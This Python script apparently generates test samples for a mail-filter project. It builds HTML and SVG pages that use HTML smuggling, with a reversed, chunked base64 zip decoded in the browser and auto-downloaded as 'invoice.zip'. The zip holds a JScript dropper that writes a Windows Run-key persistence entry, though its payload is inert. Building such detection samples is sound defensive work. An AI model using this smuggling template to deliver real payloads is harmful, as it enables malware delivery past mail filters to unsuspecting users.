#!/usr/bin/env python3
# gen-smuggle.py OUTDIR - HTML-smuggling test pages (inert): a zip holding invoice.js (a
# Run-key dropper whose strings are plain, so the analysers find it once the zip is out),
# base64-encoded, reversed and cut in pieces so that only running the page rebuilds it.
import base64, io, sys, zipfile
out = sys.argv[1] if len(sys.argv) > 1 else '.'
inner = (b'// inert test script inside the smuggled zip (fileless-milter tests)\r\n'
         b'var s = new ActiveXObject("WScript.Shell");\r\n'
         b's.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\inv", '
         b'"mshta javascript:close()", "REG_SZ");\r\n')
z = io.BytesIO()
with zipfile.ZipFile(z, 'w', zipfile.ZIP_DEFLATED) as f:
    f.writestr('invoice.js', inner)
b = base64.b64encode(z.getvalue()).decode()[::-1]
parts = [b[i:i + 60] for i in range(0, len(b), 60)]
js_parts = ',\n  '.join('"%s"' % p for p in parts)
page = '''<!DOCTYPE html>
<html><head><title>Invoice</title></head>
<body>
<p>Your document is downloading...</p>
<!-- test page written for fileless-milter (inert): HTML smuggling of a zip -->
<script>
var p = [
  %s
];
function r(s) { return s.split("").reverse().join(""); }
var d = window["at" + "ob"](r(p.join("")));
var u = new Uint8Array(d.length);
for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);
var b = new Blob([u], {type: "application/zip"});
if (window.navigator.msSaveOrOpenBlob) {
  window.navigator.msSaveOrOpenBlob(b, "invoice.zip");
} else {
  var a = document.createElement("a");
  document.body.appendChild(a);
  a.href = window.URL.createObjectURL(b);
  a.download = "invoice.zip";
  a.click();
}
</script>
</body></html>
''' % js_parts
open(out + '/smuggle-zip.html', 'w').write(page)
# the same through an anchor only (no msSaveOrOpenBlob), in an SVG
svg = '''<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<!-- test image written for fileless-milter (inert): SVG smuggling of a zip -->
<script type="text/javascript"><![CDATA[
var p = [
  %s
];
var d = atob(p.join("").split("").reverse().join(""));
var u = new Uint8Array(d.length);
for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);
var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
a.setAttribute("href", URL.createObjectURL(new Blob([u], {type: "octet/stream"})));
a.setAttribute("download", "invoice.zip");
a.download = "invoice.zip";
a.click();
]]></script>
</svg>
''' % js_parts
open(out + '/smuggle-zip.svg', 'w').write(svg)
